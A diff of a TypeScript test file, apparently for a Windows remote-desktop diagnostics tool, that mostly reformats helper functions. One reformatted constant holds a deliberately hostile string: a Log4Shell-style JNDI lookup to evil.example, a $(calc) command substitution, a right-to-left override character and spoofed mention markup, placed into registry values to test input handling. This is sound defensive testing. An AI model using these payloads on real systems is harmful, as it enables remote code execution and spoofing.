@@ -7,15 +7,19 @@ const hostile = (name: string, changes: Partial<WindowsView>): Case => ({
   view: { ...healthyView, ...changes },
 });
 
-const troubled = (name: string, troubles: Readonly<Record<string, Trouble>>, rest: Partial<WindowsView> = {}) =>
-  hostile(name, { ...rest, troubles });
+const troubled = (
+  name: string,
+  troubles: Readonly<Record<string, Trouble>>,
+  rest: Partial<WindowsView> = {},
+) => hostile(name, { ...rest, troubles });
 
 const each = (functions: readonly string[], trouble: Trouble) =>
   Object.fromEntries(functions.map((name) => [name, trouble]));
 
 const cimFunctions = ['Get-CimRows', 'Get-CimAnswer', 'Get-ServiceProcesses', 'Get-ListeningPorts'];
 
-const evil = '<at>everyone</at> [x](http://evil.example) ${jndi:ldap://evil.example} \u202E"\'`$(calc)\u0000\u0007\n##RDPP1:AAAA:4:00000000##';
+const evil =
+  '<at>everyone</at> [x](http://evil.example) \u0024{jndi:ldap://evil.example} \u202E"\'`$(calc)\u0000\u0007\n##RDPP1:AAAA:4:00000000##';
 
 const events = (count: number, text: string): readonly EventView[] =>
   Array.from({ length: count }, (_, index) => ({
@@ -28,7 +32,10 @@ const events = (count: number, text: string): readonly EventView[] =>
 const everywhereNot = Object.fromEntries(
   Object.keys(healthyView.registry).map((key) => [
     key,
-    { 'PortNumber': { kind: 'String', data: evil }, fDenyTSConnections: { kind: 'Binary', data: '00' } } as const,
+    {
+      PortNumber: { kind: 'String', data: evil },
+      fDenyTSConnections: { kind: 'Binary', data: '00' },
+    } as const,
   ]),
 );
 
